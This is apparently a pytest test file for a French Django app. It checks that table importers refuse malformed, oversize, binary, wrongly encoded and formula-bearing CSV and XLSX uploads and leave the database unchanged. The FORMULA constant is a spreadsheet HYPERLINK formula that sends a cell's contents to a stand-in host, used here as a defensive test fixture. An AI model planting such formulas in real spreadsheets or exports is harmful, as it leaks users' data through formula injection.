"""Hostile tables on every import (zonage annex, indicator values, TVS geography): malformed CSV or XLSX, wrong
encoding, spreadsheet formulas, binary content, oversize, several files. Each gets a French error and nothing is
imported; exports neutralise formulas (config/exports.py)."""

import html
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse
from openpyxl import Workbook

from tests.instruction.factories import png_bytes

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://127.0.0.1:9/vol?c="&A1,"Cliquez ici")'


def xlsx(rows) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def not_a_workbook() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "pas un classeur")
    return buffer.getvalue()


def hostile_tables(header: str, good_row: str, *, limit: int) -> dict[str, tuple[str, bytes, str]]:
    """(file name, content, French message) for one importer, built around one valid row."""
    columns = header.split(";")
    formula_row = ";".join([f'"{FORMULA.replace(chr(34), chr(34) * 2)}"', *good_row.split(";")[1:]])
    return {
        "csv-binaire": ("valeurs.csv", png_bytes(), "n'est pas un fichier texte CSV"),
        "csv-utf16": ("valeurs.csv", f"{header}\n{good_row}\n".encode("utf-16"), "n'est pas un fichier texte CSV"),
        "csv-nul-tardif": (
            "valeurs.csv",
            f"{header}\n{good_row}\n".encode() + b"x" * 70_000 + b"\x00\n",
            "octets nuls",
        ),
        "csv-formule": ("valeurs.csv", f"{header}\n{formula_row}\n".encode(), "formule de tableur"),
        "csv-guillemet-ouvert": ("valeurs.csv", f'{header}\n"{good_row}\n'.encode(), ""),
        "csv-sans-colonnes": ("valeurs.csv", b"a;b\n1;2\n", "olonne"),
        "csv-vide-apres-en-tete": ("valeurs.csv", f"{header}\n".encode(), "aucune ligne"),
        "xlsx-illisible": ("valeurs.xlsx", b"PK\x03\x04 tronque", "n'est pas un classeur XLSX lisible"),
        "xlsx-autre-archive": ("valeurs.xlsx", not_a_workbook(), "n'est pas un classeur XLSX lisible"),
        "xlsx-formule": ("valeurs.xlsx", xlsx([columns, [FORMULA, *good_row.split(";")[1:]]]), "formule de tableur"),
        "pdf-sous-nom-csv": ("valeurs.csv", b"%PDF-1.7\n%%EOF\n", "n'est pas un fichier texte CSV"),
        "autre-extension": ("valeurs.txt", f"{header}\n{good_row}\n".encode(), "doit être un fichier .csv ou .xlsx"),
        "trop-gros": ("valeurs.csv", f"{header}\n".encode() + b"x;" * (limit // 2 + 1), "dépasse"),
    }


def _text(response) -> str:
    return html.unescape(response.content.decode())


@pytest.fixture
def annex(zonage_territory, siege_agent, client):
    from tests.zonage.conftest import ensure_reference_data
    from tests.zonage.factories import ArreteFactory, classer

    ensure_reference_data()
    arrete = ArreteFactory()
    classer(arrete, zonage_territory["tvs_a"], "ZIP", apl="2.0")
    client.force_login(siege_agent)
    return arrete


def _annex_state(arrete):
    return list(arrete.classements.values_list("tvs__code", "zone__code", "apl")), arrete.imports.count()


def test_hostile_annex_files(annex, client):
    url = reverse("zonage:arrete_import", args=[annex.public_id])
    before = _annex_state(annex)
    cases = hostile_tables("code;nom;zone;apl", "45B01;TVS d'Orléans;ZIP;3,2", limit=5 * 1024 * 1024)
    for case, (name, content, message) in cases.items():
        response = client.post(url, {"fichier": SimpleUploadedFile(name, content)}, follow=True)
        assert response.status_code in (200, 400), case
        assert message in _text(response), case
        assert _annex_state(annex) == before, case
    files = [SimpleUploadedFile(f"annexe-{n}.csv", b"code;zone\n45B01;ZIP\n") for n in range(50)]
    response = client.post(url, {"fichier": files}, follow=True)
    assert "Un seul fichier à la fois" in _text(response)
    assert _annex_state(annex) == before
    # Windows-1252 is what spreadsheet software often writes: read, not refused.
    latin = SimpleUploadedFile("annexe.csv", "code;nom;zone\n45B01;TVS d'Orléans;ZIP\n".encode("cp1252"))
    client.post(url, {"fichier": latin}, follow=True)
    assert _annex_state(annex)[1] == 1


def test_hostile_indicator_value_files(territory, siege_agent, client):
    from indicateurs.models import Valeur
    from tests.indicateurs.factories import PerimetreFactory

    PerimetreFactory()
    client.force_login(siege_agent)
    url = reverse("indicateurs:import")
    header = "indicateur;niveau;code;periode;valeur;commentaire"
    cases = hostile_tables(header, "P4_CLS;region;24;2026-S1;4;", limit=2 * 1024 * 1024)
    cases["csv-latin1"] = ("valeurs.csv", f"{header}\nP4_CLS;region;24;2026-S1;4;Créé\n".encode("latin-1"), "UTF-8")
    comment = f"{header}\nP4_CLS;region;24;2026-S1;4;{FORMULA.replace(chr(34), '')}\n"
    cases["csv-formule-commentaire"] = ("valeurs.csv", comment.encode(), "formule de tableur")
    for case, (name, content, message) in cases.items():
        response = client.post(url, {"fichier": SimpleUploadedFile(name, content)}, follow=True)
        assert response.status_code in (200, 400), case
        assert message in _text(response), case
        assert not Valeur.objects.exists(), case
    files = [SimpleUploadedFile(f"valeurs-{n}.csv", b"x") for n in range(50)]
    assert "Un seul fichier à la fois" in _text(client.post(url, {"fichier": files}))


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "En-t\u00eate attendu"),
        (b"\x00\x01\x02", "octets nuls"),
        ("code_commune;code_tvs;nom_tvs\n37132;T1;TVS\n".encode("utf-16"), "encodé en UTF-8"),
        ("code_commune;code_tvs;nom_tvs\n37132;T1;Sécurité\n".encode("latin-1"), "encodé en UTF-8"),
        (f"code_commune;code_tvs;nom_tvs\n37132;T1;{FORMULA.replace(';', ',')}\n".encode(), "formule de tableur"),
        (b"code_commune;code_tvs;nom_tvs\n37132;T1\n", "valeur manquante"),
        (b"mauvais;en;tete\n", "En-t\u00eate attendu"),
    ],
)
def test_hostile_tvs_files_change_nothing(territory, tmp_path, content, message):
    from territoires.models import TerritoireVieSante

    path = tmp_path / "tvs.csv"
    path.write_bytes(content)
    with pytest.raises(CommandError) as raised:
        call_command("import_tvs", str(path), "--version-tvs", "essai", stdout=io.StringIO(), stderr=io.StringIO())
    assert "La base de données n'a pas été modifiée" in str(raised.value)
    assert not TerritoireVieSante.objects.exists()
    if message not in str(raised.value):
        from territoires.importers import ImportFailed, import_tvs

        with pytest.raises(ImportFailed) as detail:
            import_tvs(path=path, version="essai")
        assert message in " ".join([str(detail.value), *detail.value.errors])
